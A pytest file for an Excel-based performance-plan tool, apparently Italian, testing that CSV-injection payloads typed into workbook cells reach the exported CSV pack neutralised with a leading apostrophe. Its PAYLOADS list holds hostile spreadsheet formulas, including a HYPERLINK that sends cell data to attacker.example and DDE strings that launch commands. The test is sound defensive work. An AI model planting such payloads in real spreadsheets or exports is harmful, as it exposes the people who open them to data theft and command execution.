"""CSV injection (issue 21.6): causes, actions, evidence and notes typed in an area sheet reach the
OIV pack's CSV files (which the OIV opens in Excel) as readable text that can never run as a formula."""

import csv
import shutil
import subprocess
import sys

import openpyxl
import pytest

from xlperf.aggregate import score_plan
from xlperf.readers.workbook import read_workbook
from xlperf.tabular import FORMULA_STARTS

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&A1;"Clicca qui")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tavvio=1+1",
    "\r=1+1",
    "-20% rispetto al target",
]


def xlperf(*args):
    return subprocess.run([sys.executable, "-m", "xlperf.cli", *args], capture_output=True, text=True)


def _typed(demo_xlsm, tmp_path):
    """The demo with every payload typed as cause, action, evidence and note of indicators under 100 %."""
    work = tmp_path / "PIAO_2025.xlsm"
    shutil.copy(demo_xlsm, work)
    plan, _ = read_workbook(work)
    res = score_plan(plan)
    short = [i for i, p in zip(plan.indicators, res.indicators, strict=True) if p is not None and p < 1 - 1e-9]
    assert len(short) >= len(PAYLOADS)
    wb = openpyxl.load_workbook(work, keep_vba=True)
    for ind, text in zip(short, PAYLOADS, strict=False):
        for f in ("cause", "action", "evidence", "note"):
            sheet, cell = ind.place(f).split("!")
            wb[sheet][cell].value = text
            wb[sheet][cell].data_type = "s"  # typed text, as an area types it (not a formula)
    wb.save(work)
    return work


def _csv_cells(pack):
    cells = []
    for path in sorted(pack.rglob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells += [(path.name, c) for row in csv.reader(f, delimiter=";") for c in row]
    return cells


@pytest.mark.slow
def test_every_injection_form_reaches_the_pack_neutralised_and_readable(demo_xlsm, tmp_path):
    work = _typed(demo_xlsm, tmp_path)
    proc = xlperf("valida", str(work), "--out", str(tmp_path / "pacchetto"), "--silenzioso")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    cells = _csv_cells(tmp_path / "pacchetto")
    dangerous = [(name, c) for name, c in cells if c.startswith(FORMULA_STARTS)]
    assert not dangerous
    texts = [c for _, c in cells]
    for payload in PAYLOADS:
        readable = payload.strip()  # the reader trims leading blanks; what is left is kept whole
        hits = [c for c in texts if c.lstrip("'") == readable]
        assert hits, payload
        if readable.startswith(FORMULA_STARTS):
            assert all(c == "'" + readable for c in hits), payload
    # the legitimate text is still plain to read: one apostrophe, nothing else changed
    assert "'-20% rispetto al target" in texts
    with open(tmp_path / "pacchetto" / "Scostamenti.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    header = rows[0]
    causes = {r[header.index("Causa dello scostamento")] for r in rows[1:]}
    actions = {r[header.index("Azione correttiva")] for r in rows[1:]}
    assert {"'" + PAYLOADS[0], "'-20% rispetto al target"} <= causes & actions
